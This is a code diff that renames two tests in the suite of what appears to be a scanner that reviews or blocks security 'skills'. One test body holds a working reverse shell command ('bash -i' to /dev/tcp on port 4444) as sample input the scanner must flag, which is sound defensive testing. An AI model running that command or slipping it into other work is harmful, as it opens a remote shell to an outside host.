@@ -67,7 +67,7 @@ def test_nothing_that_an_attacker_can_write_switches_a_finding_off(
     assert scanned(tmp_path, body).verdict is not Verdict.PASS
 
 
-def test_what_a_security_skill_shows_is_reviewed_and_not_blocked(tmp_path: Path) -> None:
+def test_examples_of_a_security_skill_need_review_and_are_not_blocked(tmp_path: Path) -> None:
     body = "## Indicators of attack\n\n```bash\nbash -i >& /dev/tcp/10.0.0.5/4444 0>&1\n```"
 
     assert scanned(tmp_path, body, about="Detects malware in logs.").verdict is Verdict.REVIEW
@@ -80,7 +80,7 @@ def test_a_security_skill_may_not_do_it(tmp_path: Path) -> None:
     assert result.verdict is Verdict.BLOCK
 
 
-def test_what_is_lowered_says_why(tmp_path: Path) -> None:
+def test_a_lowered_finding_says_why(tmp_path: Path) -> None:
     result = scanned(tmp_path, "See notes.", docs__other_dot_md=f"```bash\n{ATTACK}\n```")
 
     finding = next(item for item in result.findings if item.rule == "SKR-RUN-001")
